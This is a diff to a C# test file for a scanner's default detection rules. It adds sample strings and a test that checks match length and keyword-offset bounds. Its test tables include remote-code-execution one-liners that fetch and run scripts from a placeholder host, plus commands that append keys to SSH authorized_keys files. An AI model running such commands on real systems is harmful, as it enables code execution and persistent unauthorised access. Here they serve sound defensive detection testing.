@@ -77,6 +77,8 @@ public sealed class DefaultRulesTests
         { "shell_exec", "subprocess.run(cmd, shell=True)" },
         { "shell_exec", "require('child_process').exec('ls')" },
         { "shell_exec", "child_process.exec(cmd)" },
+        { "shell_exec", "const { exec } = require('child_process');" },
+        { "shell_exec", "import { execSync as run } from \"node:child_process\";" },
         { "shell_exec", "Runtime.getRuntime().exec(cmd);" },
         { "shell_exec", "eval \"$(curl -fsSL https://x.example.net/env)\"" },
         { "shell_exec", "IEX (New-Object Net.WebClient).DownloadString('http://x.example.net/a.ps1')" },
@@ -115,6 +117,7 @@ public sealed class DefaultRulesTests
         { "ssh_key_inject", "echo \"$KEY\" >> ~/.ssh/authorized_keys" },
         { "ssh_key_inject", "cat /tmp/k.pub | tee -a /root/.ssh/authorized_keys" },
         { "ssh_key_inject", "cp /tmp/keys /home/git/.ssh/authorized_keys" },
+        { "ssh_key_inject", "install -m 600 key.pub ~/.ssh/authorized_keys" },
         { "ssh_key_inject", "open(os.path.expanduser(\"~/.ssh/authorized_keys\"), \"a\")" },
         { "ssh_key_inject", "printf '%s\\n' \"$k\" > .ssh/authorized_keys" },
     };
@@ -174,6 +177,7 @@ public sealed class DefaultRulesTests
         { "shell_exec", "os.path.join(a, b)" },
         { "shell_exec", "subprocess.run([\"ls\", \"-l\"], check=True)" },
         { "shell_exec", "child_process.spawn(\"ls\")" },
+        { "shell_exec", "const { spawn, execFile } = require('child_process');" },
         { "shell_exec", "Runtime.getRuntime().availableProcessors()" },
         { "shell_exec", "evaluate $(date)" },
         { "shell_exec", "IEX is an exchange" },
@@ -308,5 +312,22 @@ public sealed class DefaultRulesTests
 
         Assert.Equal(key, finding.Value);
         Assert.Equal(1, finding.Offset);
+    }
+
+    [Theory]
+    [MemberData(nameof(TruePositives))]
+    public void Match_fits_its_rule_reach_and_holds_a_keyword_near_its_start(string rule, string text)
+    {
+        // Scanning relies on both bounds: a match is looked for only near keywords, and held only that long.
+        foreach (var finding in Scanner.ScanText(text, Direction.Outbound))
+        {
+            var keywordAt = finding.Rule.Keywords
+                .Select(k => finding.Value.IndexOf(k, StringComparison.OrdinalIgnoreCase))
+                .Where(at => at >= 0)
+                .DefaultIfEmpty(int.MaxValue)
+                .Min();
+            Assert.True(keywordAt <= finding.Rule.MaxKeywordOffset, $"{rule}: keyword at {keywordAt} in {finding.Value}");
+            Assert.True(finding.Value.Length < finding.Rule.MaxMatchLength, $"{rule}: {finding.Value.Length} chars");
+        }
     }
 }
